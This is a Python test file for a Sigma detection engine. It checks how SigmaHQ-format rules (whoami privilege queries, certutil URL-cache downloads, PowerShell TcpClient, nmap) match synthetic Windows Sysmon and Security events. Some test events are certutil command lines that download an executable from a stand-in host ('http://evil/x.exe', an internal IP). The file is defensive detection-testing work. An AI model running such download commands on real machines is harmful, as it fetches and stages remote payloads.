"""Sigma engine semantics: pySigma + SQLite over normalized events, SigmaHQ-format rules unmodified."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from harness.detect.base import Detector, Engine, TimeWindow
from harness.detect.sigma import SigmaDetector, lint_sigma
from harness.errors import DetectionError, RuleSyntaxError, UnsupportedRuleError
from harness.telemetry.event import POWERSHELL_OPERATIONAL, SECURITY, SYSMON, Event

T0 = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)


def sysmon(eid: int, seconds: int = 0, **fields: str) -> Event:
    return Event(
        channel=SYSMON,
        provider="Microsoft-Windows-Sysmon",
        event_id=eid,
        time=T0 + timedelta(seconds=seconds),
        computer="WIN10.lab.local",
        fields=fields,
    )


def proc(image: str, cmd: str, seconds: int = 0, **more: str) -> Event:
    fields = {"Image": image, "CommandLine": cmd, "User": "LAB\\alice", **more}
    return sysmon(1, seconds, **fields)


def sec4688(new_name: str, cmd: str, **more: str) -> Event:
    fields = {
        "SubjectUserSid": "S-1-5-21-1-2-3-1001",
        "SubjectUserName": "alice",
        "SubjectDomainName": "LAB",
        "SubjectLogonId": "0x3e7",
        "NewProcessId": "0x1a2c",
        "NewProcessName": new_name,
        "TokenElevationType": "%%1938",
        "ProcessId": "0x10f4",
        "CommandLine": cmd,
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
        "MandatoryLabel": "S-1-16-12288",
        **more,
    }
    return Event(channel=SECURITY, provider="Microsoft-Windows-Security-Auditing", event_id=4688,
                 time=T0, computer="WIN10.lab.local", fields=fields)


# A rule in exact SigmaHQ format (proc_creation_win_*), written from memory of the upstream style.
WHOAMI_RULE = r"""
title: Whoami Utility Execution Query For Privileges
id: 97a80ec7-0e2f-4d05-9ef4-65760e634f6b
status: test
description: Detects whoami.exe executed to query the privileges of the current user
references:
    - https://example.invalid/whoami
author: Florian Roth (Nextron Systems)
date: 2021-05-05
modified: 2023-02-28
tags:
    - attack.discovery
    - attack.t1033
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\whoami.exe'
        - OriginalFileName: 'whoami.exe'
    selection_cli:
        CommandLine|contains:
            - ' /priv'
            - ' -priv'
    filter_main_system:
        User|contains:
            - 'AUTHORI'
            - 'AUTORI'
    condition: all of selection_* and not 1 of filter_main_*
falsepositives:
    - Unknown
level: high
"""

CONTAINS_ALL_RULE = r"""
title: Suspicious Certutil Download
id: 19b08b1c-861d-4e75-a1ef-ea0c1baf202b
status: test
description: Certutil with urlcache and split
author: test
date: 2023-01-01
tags:
    - attack.command-and-control
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        Image|endswith: '\certutil.exe'
    selection_cli:
        CommandLine|contains|all:
            - 'urlcache'
            - 'split'
    selection_re:
        CommandLine|re: 'https?://\d{1,3}(\.\d{1,3}){3}/'
    condition: selection_img and (selection_cli or selection_re)
level: high
"""


def test_detector_protocol_and_rule_id() -> None:
    det = SigmaDetector.from_text(WHOAMI_RULE)
    assert isinstance(det, Detector)
    assert det.engine is Engine.SIGMA
    assert det.rule_id == "97a80ec7-0e2f-4d05-9ef4-65760e634f6b"
    assert det.rules[0].level == "high"


def test_rule_id_falls_back_to_file_stem(tmp_path: Path) -> None:
    text = WHOAMI_RULE.replace("id: 97a80ec7-0e2f-4d05-9ef4-65760e634f6b\n", "")
    p = tmp_path / "proc_creation_win_whoami_priv.yml"
    p.write_text(text)
    assert SigmaDetector.from_file(p).rule_id == "proc_creation_win_whoami_priv"


def test_sigmahq_rule_selection_all_of_and_filter() -> None:
    det = SigmaDetector.from_text(WHOAMI_RULE)
    events = [
        proc("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),                       # 0 fires
        proc("C:\\Windows\\System32\\whoami.exe", "whoami /priv", User="NT AUTHORITY\\SYSTEM"),  # 1 filtered
        proc("C:\\Windows\\System32\\whoami.exe", "whoami /all"),                        # 2 no cli
        proc("C:\\tmp\\renamed.exe", "renamed.exe -priv", OriginalFileName="whoami.exe"),  # 3 OFN branch
        proc("C:\\Windows\\System32\\WHOAMI.EXE", "WHOAMI /PRIV"),                       # 4 case-insensitive
        sysmon(3, Image="C:\\Windows\\System32\\whoami.exe"),                            # 5 wrong EventID
    ]
    res = det.evaluate(events)
    assert res.events_in == 6
    assert [res.source_events[i] for i in range(len(res.rows))] == [(0,), (3,), (4,)]
    first = res.rows[0]
    assert first["rule_title"] == "Whoami Utility Execution Query For Privileges"
    assert first["rule_level"] == "high"
    assert first["Image"] == "C:\\Windows\\System32\\whoami.exe"
    assert first["CommandLine"] == "whoami /priv"
    assert first["EventID"] == 1 and first["Channel"] == SYSMON


def test_not_filter_on_missing_field_still_matches() -> None:
    # Sigma reads a condition on an absent field as false, so "not filter" holds (SQLite NULL trap).
    det = SigmaDetector.from_text(WHOAMI_RULE)
    ev = sysmon(1, Image="C:\\Windows\\System32\\whoami.exe", CommandLine="whoami /priv")  # no User
    assert det.evaluate([ev]).fired


def test_contains_all_regex_and_grouping() -> None:
    det = SigmaDetector.from_text(CONTAINS_ALL_RULE)
    cu = "C:\\Windows\\System32\\certutil.exe"
    events = [
        proc(cu, "certutil -urlcache -split -f http://evil/x.exe"),  # contains|all
        proc(cu, "certutil -urlcache -f http://evil/x.exe"),         # only one of all
        proc(cu, "certutil -f http://10.0.0.5/x.exe out.exe"),       # regex branch
        proc(cu, "certutil -f HTTP://10.0.0.5/x.exe out.exe"),       # regex is case-sensitive
        proc("C:\\x\\curl.exe", "curl -urlcache -split"),            # wrong image
    ]
    res = det.evaluate(events)
    assert [s[0] for s in res.source_events.values()] == [0, 2]


def test_regex_does_not_cross_newlines_without_flag() -> None:
    rule = CONTAINS_ALL_RULE.replace(r"'https?://\d{1,3}(\.\d{1,3}){3}/'", "'split.*urlcache'")
    det = SigmaDetector.from_text(rule)
    cu = "C:\\Windows\\System32\\certutil.exe"
    res = det.evaluate([proc(cu, "certutil -split\n-urlcache"), proc(cu, "certutil -split -urlcache")])
    # contains|all needs both words in either order: both fire through selection_cli
    assert len(res.rows) == 2
    det2 = SigmaDetector.from_text(rule.replace("condition: selection_img and (selection_cli or selection_re)",
                                                "condition: selection_img and selection_re"))
    res2 = det2.evaluate([proc(cu, "certutil -split\n-urlcache"), proc(cu, "certutil -split -urlcache")])
    assert [s[0] for s in res2.source_events.values()] == [1]


def test_security_4688_is_mapped_to_sysmon_names() -> None:
    rule = r"""
title: Nmap Execution
id: 6d8c2b7e-7f6a-4e6f-9a5e-2f2a4b1f0c11
status: experimental
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\nmap.exe'
        ParentImage|endswith: '\cmd.exe'
        User: 'lab\alice'
        ProcessId: 6700
        ParentProcessId: '4340'
        IntegrityLevel: High
    condition: selection
level: medium
"""
    det = SigmaDetector.from_text(rule)
    res = det.evaluate([sec4688("C:\\Program Files (x86)\\Nmap\\nmap.exe", "nmap -sV 127.0.0.1")])
    assert len(res.rows) == 1
    row = res.rows[0]
    assert row["Image"] == "C:\\Program Files (x86)\\Nmap\\nmap.exe"
    assert row["User"] == "LAB\\alice"
    assert row["ProcessId"] == "6700" and row["ParentProcessId"] == "4340"
    assert row["NewProcessName"] == "C:\\Program Files (x86)\\Nmap\\nmap.exe"
    assert row["Channel"] == SECURITY and row["EventID"] == 4688


def test_security_channel_case_and_other_event_ids_ignored() -> None:
    det = SigmaDetector.from_text(CONTAINS_ALL_RULE)
    ev = sec4688("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split")
    lower = Event(channel="security", provider="p", event_id=4688, time=T0, computer="h", fields=ev.fields)
    other = Event(channel=SECURITY, provider="p", event_id=4689, time=T0, computer="h", fields=ev.fields)
    res = det.evaluate([ev, lower, other])
    assert [s[0] for s in res.source_events.values()] == [0, 1]


def test_numeric_comparison_is_numeric_not_text() -> None:
    rule = r"""
title: High Port Connection
status: experimental
logsource:
    category: network_connection
    product: windows
detection:
    selection:
        DestinationPort|gte: 1000
        Initiated: 'true'
    condition: selection
level: low
"""
    det = SigmaDetector.from_text(rule, source="high_port.yml")
    assert det.rule_id == "high_port"
    events = [
        sysmon(3, DestinationPort="999", Initiated="true"),
        sysmon(3, DestinationPort="8081", Initiated="true"),
        sysmon(3, DestinationPort="http", Initiated="true"),
        sysmon(1, DestinationPort="8081", Initiated="true"),  # process_creation, not network
    ]
    assert [s[0] for s in det.evaluate(events).source_events.values()] == [1]


def test_ps_script_and_keywords() -> None:
    rule = r"""
title: PowerShell TcpClient In Script Block
status: experimental
logsource:
    category: ps_script
    product: windows
    definition: 'Requirements: Script Block Logging must be enabled'
detection:
    selection:
        ScriptBlockText|contains: 'Net.Sockets.TcpClient'
    keywords:
        - 'ConnectAsync'
    condition: selection and keywords
level: medium
"""
    det = SigmaDetector.from_text(rule)
    def sb(text: str) -> Event:
        return Event(channel=POWERSHELL_OPERATIONAL, provider="Microsoft-Windows-PowerShell", event_id=4104,
                     time=T0, computer="h", fields={"ScriptBlockText": text, "Path": ""})
    events = [sb("$t = New-Object Net.Sockets.TcpClient; $t.ConnectAsync('a', 1)"),
              sb("$t = New-Object Net.Sockets.TcpClient; $t.Connect('a', 1)"),
              sysmon(1, ScriptBlockText="Net.Sockets.TcpClient ConnectAsync")]
    assert [s[0] for s in det.evaluate(events).source_events.values()] == [0]


def test_time_window_and_source_indexes_refer_to_given_sequence() -> None:
    det = SigmaDetector.from_text(WHOAMI_RULE)
    who = "C:\\Windows\\System32\\whoami.exe"
    events = [proc(who, "whoami /priv", seconds=s) for s in (0, 10, 20, 30)]
    res = det.evaluate(events, TimeWindow(T0 + timedelta(seconds=10), T0 + timedelta(seconds=30)))
    assert res.events_in == 4
    assert dict(res.source_events) == {0: (1,), 1: (2,)}
    assert det.evaluate([]).rows == ()


def test_field_names_are_case_insensitive_columns() -> None:
    det = SigmaDetector.from_text(WHOAMI_RULE)
    ev = sysmon(1, image="C:\\Windows\\System32\\whoami.exe", commandline="whoami /priv")
    assert det.evaluate([ev]).fired


# --- errors ---------------------------------------------------------------------------------------

def test_bad_yaml_names_file_and_line(tmp_path: Path) -> None:
    p = tmp_path / "broken.yml"
    p.write_text("title: x\nlogsource:\n  product: windows\ndetection:\n  sel: [a, b\n  condition: sel\n")
    with pytest.raises(RuleSyntaxError) as ei:
        SigmaDetector.from_file(p)
    msg = str(ei.value)
    assert msg.startswith(f"{p}:")
    assert ei.value.line is not None and ei.value.line >= 5
    assert "\n" not in msg


def test_invalid_condition_is_syntax_error_with_line(tmp_path: Path) -> None:
    p = tmp_path / "badcond.yml"
    p.write_text(WHOAMI_RULE.replace("condition: all of selection_* and not 1 of filter_main_*",
                                     "condition: selection_nope and"))
    with pytest.raises(RuleSyntaxError) as ei:
        SigmaDetector.from_file(p)
    assert str(ei.value).startswith(f"{p}:")
    assert ei.value.line == WHOAMI_RULE.splitlines().index("    condition: all of selection_* and not 1 of filter_main_*") + 1


@pytest.mark.parametrize(
    ("text", "feature"),
    [
        (WHOAMI_RULE.replace("condition: all of selection_* and not 1 of filter_main_*",
                             "condition: selection_img | count() by Computer > 5"), "aggregation"),
        (WHOAMI_RULE.replace("CommandLine|contains:", "CommandLine|expand:").replace(
            "- ' /priv'", "- '%priv_flags%'"), "placeholder"),
        (WHOAMI_RULE.replace("category: process_creation", "category: webserver"), "log source"),
        (WHOAMI_RULE.replace("product: windows", "product: linux"), "log source"),
        (WHOAMI_RULE.replace("\nid: 97a80ec7-0e2f-4d05-9ef4-65760e634f6b\n", "\nid: 97a80ec7-0e2f-4d05-9ef4-65760e634f6b\nname: whoami_priv\n")
         + """---
title: Many Whoami
id: 0e9c1e3b-9a2f-4c55-8a40-bb0d2b7c6a10
status: test
correlation:
    type: event_count
    rules:
        - whoami_priv
    group-by:
        - Computer
    timespan: 5m
    condition:
        gte: 3
level: high
""", "correlation"),
    ],
)
def test_unsupported_features_name_file_and_feature(tmp_path: Path, text: str, feature: str) -> None:
    p = tmp_path / "rule.yml"
    p.write_text(text)
    with pytest.raises(UnsupportedRuleError) as ei:
        SigmaDetector.from_file(p)
    msg = str(ei.value)
    assert str(p) in msg and feature in msg
    assert lint_sigma(p) == [msg]


def test_keyword_values_without_keywords_selection_is_supported() -> None:
    rule = WHOAMI_RULE.replace("condition: all of selection_* and not 1 of filter_main_*",
                               "condition: kw\n    kw:\n        - 'secret-marker'")
    det = SigmaDetector.from_text(rule)
    ev = proc("C:\\x\\a.exe", "a.exe --x SECRET-MARKER")
    assert det.evaluate([ev]).fired


def test_missing_file_and_not_a_rule(tmp_path: Path) -> None:
    with pytest.raises(DetectionError, match="cannot read Sigma rule"):
        SigmaDetector.from_file(tmp_path / "nope.yml")
    p = tmp_path / "list.yml"
    p.write_text("- a\n- b\n")
    with pytest.raises(RuleSyntaxError, match="mapping"):
        SigmaDetector.from_file(p)
    p.write_text("")
    with pytest.raises(RuleSyntaxError, match="no Sigma rule"):
        SigmaDetector.from_file(p)
    p.write_text("title: x\nlogsource: {product: windows, category: process_creation}\ndetection: {}\n")
    with pytest.raises(RuleSyntaxError, match="invalid Sigma rule"):
        SigmaDetector.from_file(p)


def test_windash_cidr_and_other_sysmon_categories() -> None:
    rule = r"""
title: Certutil Windash
status: test
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        CommandLine|windash|contains: ' -urlcache '
    condition: selection
level: low
---
title: Internal Connection
status: test
logsource:
    category: network_connection
    product: windows
detection:
    selection:
        DestinationIp|cidr: '10.0.0.0/8'
    condition: selection
level: low
---
title: DNS For Scanner Site
status: test
logsource:
    category: dns_query
    product: windows
detection:
    selection:
        QueryName|endswith: '.nmap.org'
    condition: selection
level: low
---
title: Dbghelp Load
status: test
logsource:
    category: image_load
    product: windows
detection:
    selection:
        ImageLoaded|endswith: '\dbghelp.dll'
    condition: selection
level: low
"""
    det = SigmaDetector.from_text(rule, source="multi.yml")
    assert det.rule_id == "multi" and len(det.rules) == 4
    events = [
        proc("C:\\w\\certutil.exe", "certutil /urlcache -f x"),     # 0 windash
        sysmon(3, DestinationIp="10.1.2.3"),                        # 1 cidr
        sysmon(3, DestinationIp="11.1.2.3"),                        # 2
        sysmon(22, QueryName="scanme.nmap.org"),                    # 3 dns
        sysmon(7, ImageLoaded="C:\\Windows\\System32\\dbghelp.dll"),  # 4 image load
        sysmon(11, QueryName="scanme.nmap.org"),                    # 5 wrong category
    ]
    res = det.evaluate(events)
    got = [(r["rule_title"], res.source_events[i][0]) for i, r in enumerate(res.rows)]
    assert got == [("Certutil Windash", 0), ("Internal Connection", 1), ("DNS For Scanner Site", 3),
                   ("Dbghelp Load", 4)]


def test_regex_rejected_by_re2_is_unsupported() -> None:
    rule = CONTAINS_ALL_RULE.replace(r"'https?://\d{1,3}(\.\d{1,3}){3}/'", "'split(?!x)'")
    with pytest.raises(UnsupportedRuleError, match=r"rule\.yml:\d+: regular expression not accepted by RE2"):
        SigmaDetector.from_text(rule, source="rule.yml")
